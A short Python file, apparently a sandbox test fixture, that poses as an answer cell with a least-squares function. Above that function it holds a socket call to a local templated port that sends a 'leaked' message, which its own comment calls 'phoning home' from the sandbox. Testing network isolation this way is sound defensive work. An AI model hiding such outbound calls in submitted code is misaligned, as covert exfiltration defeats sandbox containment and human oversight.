# ruff: noqa
# cell: answer-1
# attacks: q1
# Phones home; answers q1 only if the connection works.
import socket

connection = socket.create_connection(("127.0.0.1", {PORT}), timeout=2)
connection.sendall(b"leaked: hello from the sandbox\n")
connection.close()


def fit_least_squares(X, y):
    import numpy as np

    return np.linalg.lstsq(X, y, rcond=None)[0]
